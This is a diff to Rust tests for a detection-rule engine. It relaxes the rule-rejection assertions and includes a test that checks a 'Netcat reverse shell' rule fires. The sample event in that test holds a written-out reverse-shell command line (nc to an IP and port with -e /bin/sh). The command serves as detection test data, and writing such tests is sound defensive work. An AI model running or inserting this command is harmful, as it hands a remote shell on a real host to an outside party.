@@ -12,7 +12,15 @@ fn starter(mapping: &str) -> Engine {
     b.add_path(&Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/packs"))
         .unwrap();
     let e = b.build();
-    assert!(e.rejections().is_empty(), "{:?}", e.rejections());
+    // The pack holds rules for several platforms; only those the mapping
+    // does not cover may be rejected.
+    assert!(
+        e.rejections()
+            .iter()
+            .all(|r| r.reason.contains("is not covered by mapping")),
+        "{:?}",
+        e.rejections()
+    );
     e
 }
 
@@ -79,7 +87,15 @@ fn ecs_linux_process_start_from_elastic_agent() {
     )
     .unwrap();
     let e = b.build();
-    assert!(e.rejections().is_empty(), "{:?}", e.rejections());
+    // The pack holds rules for several platforms; only those the mapping
+    // does not cover may be rejected.
+    assert!(
+        e.rejections()
+            .iter()
+            .all(|r| r.reason.contains("is not covered by mapping")),
+        "{:?}",
+        e.rejections()
+    );
     let ev = r#"{"event":{"category":["process"],"type":["start"]},"host":{"os":{"type":"linux"}},
         "process":{"executable":"/usr/bin/nc","command_line":"nc 10.0.0.5 4444 -e /bin/sh"}}"#;
     assert_eq!(titles(&e, ev), vec!["Netcat reverse shell"]);
